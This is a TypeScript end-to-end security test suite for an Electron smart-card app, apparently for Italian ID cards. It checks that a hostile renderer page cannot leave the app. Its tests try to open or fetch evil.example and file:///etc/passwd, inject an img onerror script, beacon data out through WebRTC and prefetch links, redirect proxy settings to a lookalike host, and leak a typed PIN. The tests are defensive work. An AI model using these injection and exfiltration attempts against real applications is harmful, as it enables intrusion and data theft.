import { createSocket } from 'node:dgram';
import { readdirSync, readFileSync } from 'node:fs';
import { createServer as createTcpServer, type AddressInfo } from 'node:net';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { goTo, type } from '../support/code-pages.js';
import { READER } from '../support/desk/test-desk.js';
import { CANARY, REFUSED, useHostileApp, type LooseBridge } from '../support/hostile-page.js';

const hostile = useHostileApp();

describe('ways out', () => {
  test('only pages of the allow-list are opened in the browser', async () => {
    await hostile.calls();
    for (const url of [
      'https://evil.example/',
      'https://www.agid.gov.it.evil.example/',
      'https://user@www.agid.gov.it/',
      'http://www.agid.gov.it/',
      'file:///etc/passwd',
      'javascript:alert(1)',
      'ciekit://sign',
      ' https://evil.example/#https://www.agid.gov.it/',
    ]) {
      expect(await hostile.ask('links.open', { url }), url).toEqual(REFUSED);
    }
    await hostile.app.page.evaluate(() => {
      window.open('https://evil.example/');
      window.open('file:///etc/passwd');
      window.open('app://ciekit/index.html');
    });
    await expect.poll(() => hostile.app.electron.windows().length).toBe(1);
    expect((await hostile.calls()).filter(({ kind }) => kind !== 'network')).toEqual([]);
    expect(await hostile.ask('links.open', { url: 'https://www.agid.gov.it/x' })).toMatchObject({ ok: true });
    expect((await hostile.calls()).map(({ kind }) => kind)).toEqual(['shell.openExternal']);
  });

  test('the page cannot be led away', async () => {
    await hostile.app.page.evaluate(() => {
      location.href = 'https://evil.example/';
    });
    await hostile.app.page.evaluate(() => {
      location.href = 'data:text/html,x';
    });
    expect(await hostile.ask('prompt.get')).toEqual({ ok: true, result: undefined });
    const where = await hostile.app.electron.evaluate(({ BrowserWindow }) =>
      BrowserWindow.getAllWindows()[0]?.webContents.getURL(),
    );
    expect(where).toMatch(/^app:\/\/ciekit\/index\.html/);
  });

  test('no network, no script from text, no style attribute, no service worker', async () => {
    const outcome = await hostile.app.page.evaluate(async () => {
      const fails = async (attempt: () => unknown): Promise<boolean> => {
        try {
          await attempt();
          return false;
        } catch {
          return true;
        }
      };
      const script = document.createElement('script');
      const button = document.createElement('button');
      const handler = await fails(() => {
        button.setAttribute('onclick', 'window.evil = 1');
      });
      button.setAttribute('style', 'color: rgb(7, 7, 7)');
      document.body.append(button);
      button.click();
      const styled = getComputedStyle(button).color === 'rgb(7, 7, 7)';
      button.remove();
      return {
        fetch: await fails(() => fetch('https://evil.example/')),
        loopback: await fails(() => fetch('http://127.0.0.1:80/')),
        socket: await new Promise((resolve) => {
          try {
            const socket = new WebSocket('wss://evil.example/');
            socket.onerror = () => {
              resolve(true);
            };
            socket.onopen = () => {
              resolve(false);
            };
          } catch {
            resolve(true);
          }
        }),
        evaluated: await fails(() => Reflect.construct(Function, ['return 1'])),
        scriptText: await fails(() => {
          script.text = 'window.evil = 1';
        }),
        markup: await fails(() => {
          document.body.innerHTML = '<img src=x onerror="window.evil=1">';
        }),
        policy: await fails(() =>
          (
            window as unknown as { readonly trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }
          ).trustedTypes.createPolicy('evil', {}),
        ),
        worker: await fails(() => navigator.serviceWorker.register('/app.js')),
        handler,
        styled,
        ran: 'evil' in window,
      };
    });
    expect(outcome).toEqual({
      fetch: true,
      loopback: true,
      socket: true,
      evaluated: true,
      scriptText: true,
      markup: true,
      policy: true,
      worker: true,
      handler: true,
      styled: false,
      ran: false,
    });
  });

  test('no permission is granted', async () => {
    const answers = await hostile.app.electron.evaluate(async ({ session }) => {
      const asked = session.defaultSession as unknown as {
        wouldGrant: (permission: string, origin: string) => Promise<{ request: boolean; check: boolean }>;
      };
      const names = ['media', 'usb', 'hid', 'serial', 'clipboard-read', 'geolocation', 'notifications', 'openExternal'];
      return Promise.all(names.map((name) => asked.wouldGrant(name, 'app://ciekit')));
    });
    expect(answers.every(({ request, check }) => !request && !check)).toBe(true);
    const camera = await hostile.app.page.evaluate(() =>
      navigator.mediaDevices.getUserMedia({ video: true }).then(
        () => 'granted',
        () => 'refused',
      ),
    );
    expect(camera).toBe('refused');
  });

  test('the page has nothing of Node or Electron, and cannot change what it was given', async () => {
    const seen = await hostile.app.page.evaluate(() => ({
      names: ['require', 'process', 'module', 'electron', 'Buffer', 'global'].filter((name) => name in window),
      bridge: Object.keys(window.ciekit).sort(),
      replaced: [Reflect.set(window, 'ciekit', {}), Reflect.set(window.ciekit, 'request', () => 1)],
    }));
    expect(seen).toEqual({ names: [], bridge: ['dropped', 'listen', 'operate', 'request'], replaced: [false, false] });
  });
});

describe('other computers', () => {
  test('hear nothing: no request, no name looked up, no call (WebRTC)', async () => {
    const heard: string[] = [];
    const tcp = createTcpServer((socket) => {
      heard.push('tcp');
      socket.destroy();
    });
    const udp = createSocket('udp4').on('message', () => heard.push('udp'));
    await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve));
    await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
    await hostile.calls();
    const seen = await hostile.app.page.evaluate(
      async ([tcpPort, udpPort]) => {
        const refused = new Set<string>();
        addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.add(effectiveDirective));
        const [near, far] = [`http://127.0.0.1:${tcpPort}/`, 'https://evil.example/'];
        for (const address of [near, far]) {
          const put = (name: string, attributes: Record<string, string>): void => {
            const element = document.createElement(name);
            try {
              for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
              document.body.append(element);
              if (element instanceof HTMLFormElement) element.submit();
            } catch {
              // Trusted types keep addresses of programs from being text.
            }
          };
          for (const rel of [
            'preconnect',
            'dns-prefetch',
            'prefetch',
            'preload',
            'modulepreload',
            'stylesheet',
            'icon',
            'manifest',
          ]) {
            put('link', { rel, href: address, as: 'script' });
          }
          for (const name of ['img', 'audio', 'script', 'iframe', 'embed']) put(name, { src: address });
          put('object', { data: address });
          put('form', { action: address, method: 'post' });
          put('meta', { 'http-equiv': 'refresh', content: `0;url=${address}` });
          put('a', { href: address, ping: address });
          void fetch(address, { mode: 'no-cors' }).catch(() => undefined);
          navigator.sendBeacon(address, 'x');
          new EventSource(address).close();
          const asked = new XMLHttpRequest();
          asked.open('GET', address);
          asked.send();
          void new FontFace('evil', `url(${address})`).load().catch(() => undefined);
        }
        const call = new RTCPeerConnection({
          iceServers: [
            { urls: `stun:127.0.0.1:${udpPort}` },
            { urls: `turn:127.0.0.1:${tcpPort}?transport=tcp`, username: 'what-leaked', credential: 'x' },
          ],
        });
        call.createDataChannel('x');
        await call.setLocalDescription(await call.createOffer());
        while (call.iceGatheringState !== 'complete') {
          await new Promise((resolve) => {
            call.addEventListener('icegatheringstatechange', resolve, { once: true });
          });
        }
        call.close();
        return [...refused].sort();
      },
      [(tcp.address() as AddressInfo).port, udp.address().port] as const,
    );
    tcp.close();
    udp.close();
    expect(heard).toEqual([]);
    expect((await hostile.calls()).filter(({ kind }) => kind === 'network')).toEqual([]);
    expect(seen).toEqual(
      expect.arrayContaining(['connect-src', 'font-src', 'form-action', 'frame-src', 'img-src', 'style-src-elem']),
    );
    const policies = await hostile.app.electron.evaluate(({ BrowserWindow }) =>
      BrowserWindow.getAllWindows().map(({ webContents }) => webContents.getWebRTCIPHandlingPolicy()),
    );
    expect(policies).toEqual(['disable_non_proxied_udp']);
    expect(hostile.app.page.url()).toContain('index.html');
  });
});

describe('an address that the work processes would go to', () => {
  const held = { ok: true, result: { proxyUrl: '', timestampUrl: '' } };

  test('is set by the person alone, who is asked outside the page, once at a time, and shown where it leads', async () => {
    await hostile.calls();
    const wanted = { timestampUrl: 'https://xn--evl-wma.example/?what=leaked' };
    expect(await hostile.ask('settings.change', { ...wanted, theme: 'dark' })).toMatchObject(held);
    expect(await hostile.ask('settings.change', { proxyUrl: 'http://evil.example:80' })).toMatchObject(held);
    expect(await hostile.ask('app.start')).toMatchObject({ result: { settings: { ...held.result, theme: 'system' } } });
    const asked = (await hostile.calls()).map(({ kind, ...call }) => [kind, JSON.stringify(call)]);
    expect(asked).toEqual([
      ['dialog.showMessageBox', expect.stringContaining('https://xn--evl-wma.example/?what=leaked') as string],
      ['dialog.showMessageBox', expect.stringContaining('http://evil.example/') as string],
    ]);
    // Taken away or left as it is, none leads anywhere new.
    expect(await hostile.ask('settings.change', held.result)).toMatchObject(held);
    expect(await hostile.calls()).toEqual([]);

    await hostile.app.electron.evaluate(({ dialog }) => {
      const shown: (() => void)[] = [];
      Object.assign(globalThis, { questions: shown });
      dialog.showMessageBox = () =>
        new Promise((resolve) =>
          shown.push(() => {
            resolve({ response: 1, checkboxChecked: false });
          }),
        );
    });
    const refusals = await hostile.app.page.evaluate(async () => {
      const { request } = window.ciekit as unknown as LooseBridge;
      const many = Array.from({ length: 300 }, (_, index) =>
        request('settings.change', { timestampUrl: `https://evil.example/${index}` }),
      );
      return (await Promise.all(many.slice(1))).length;
    });
    const shown = await hostile.app.electron.evaluate(() => {
      const open = (globalThis as unknown as { readonly questions: (() => void)[] }).questions;
      for (const answer of open) answer();
      return open.length;
    });
    expect([refusals, shown]).toEqual([299, 1]);
    expect(await hostile.ask('settings.change', {})).toMatchObject(held);
  });
});

describe('a typed code', () => {
  test('is in no reply, no event, no log, no file, no output and not left in the page', async () => {
    const { page } = hostile.app;
    const { before, heard } = await page.evaluate(
      async ([reader, nis, digits]) => {
        const events: unknown[] = [];
        const stop = window.ciekit.listen((event) => events.push(event));
        const bytes = (): Uint8Array => new TextEncoder().encode(digits);
        const { operate: run, request } = window.ciekit as unknown as LooseBridge;
        const replies = [
          await run(crypto.randomUUID(), 'verify-pin', { reader, nis, codes: { pin: bytes() } }),
          await run(crypto.randomUUID(), 'verify-pin', { reader: 'nowhere', nis, codes: { pin: bytes() } }),
          await run('no id', 'verify-pin', { reader, nis, codes: { pin: bytes() } }),
          await run(crypto.randomUUID(), 'verify-pin', { reader, nis, codes: { pin: digits } }),
          await run(crypto.randomUUID(), digits, { codes: { pin: bytes() } }),
          await request(digits, digits),
          await request('log.read'),
        ];
        stop();
        return { before: JSON.stringify(replies), heard: JSON.stringify(events) };
      },
      [READER, hostile.card.nis, CANARY] as const,
    );
    expect(before).toContain('code-incorrect');
    expect(before).not.toContain(CANARY);
    expect(heard).toContain('checking-code');
    expect(heard).not.toContain(CANARY);
    await goTo(page, 'change-pin');
    await type(page, { 'Nuovo PIN': CANARY });
    await goTo(page, 'home');
    await page.getByRole('heading', { level: 1 }).first().waitFor();
    const left = await page.evaluate(() => [
      document.documentElement.outerHTML,
      ...[localStorage, sessionStorage].map((storage) => JSON.stringify(Object.entries(storage))),
      location.href,
    ]);
    expect(left.join()).not.toContain(CANARY);
    expect(
      [...hostile.app.output, ...hostile.app.complaints, ...hostile.app.pageErrors.map(String)].join('\n'),
    ).not.toContain(CANARY);
    expect(filesWith(join(hostile.folder, 'home'))).toEqual([]);
    expect(filesWith(join(hostile.folder, 'user-data'))).toEqual([]);
    expect(readFileSync(join(hostile.folder, 'user-data/cie-kit.log'), 'utf8')).toContain(
      'verify-pin-ended code-incorrect',
    );
  });
});

describe('a page that crashes while the card waits for an answer', () => {
  test('is drawn anew; nothing was sent, and the card is free', async () => {
    const { electron, page } = hostile.app;
    hostile.card.set({ pin: 1 });
    hostile.card.codeCommands = [];
    await page.evaluate(
      async ([reader, nis, digits]) => {
        const asked = new Promise<void>((resolve) => {
          window.ciekit.listen((event) => {
            if (event.type === 'operation' && event.event.type === 'question') resolve();
          });
        });
        const codes = { pin: new TextEncoder().encode(digits) };
        void window.ciekit.operate(crypto.randomUUID(), 'verify-pin', { reader, nis, codes });
        await asked;
      },
      [READER, hostile.card.nis, CANARY] as const,
    );
    const crashed = new Promise((resolve) => page.once('crash', resolve));
    await electron.evaluate(({ BrowserWindow }) => {
      BrowserWindow.getAllWindows()[0]?.webContents.forcefullyCrashRenderer();
    });
    await crashed;
    const seen = (): Promise<unknown> =>
      electron.evaluate(({ BrowserWindow }) => {
        const contents = BrowserWindow.getAllWindows()[0]?.webContents;
        return contents?.executeJavaScript(
          `window.ciekit?.request('app.start').then(({ result }) => [result.desk.busy, document.querySelector('h1') !== null])`,
        ) as unknown;
      });
    await expect.poll(() => seen().catch(() => undefined)).toEqual([false, true]);
    expect(hostile.card.codeCommands).toEqual([]);
    expect(readFileSync(join(hostile.folder, 'user-data/cie-kit.log'), 'utf8')).toContain('verify-pin-ended');
  });
});

/** Names of files that hold the canary, as it was typed or as UTF-16. */
function filesWith(folder: string): readonly string[] {
  return readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name))
    .filter((path) => {
      const bytes = readFileSync(path);
      return bytes.includes(CANARY) || bytes.includes(Buffer.from(CANARY, 'utf16le'));
    });
}
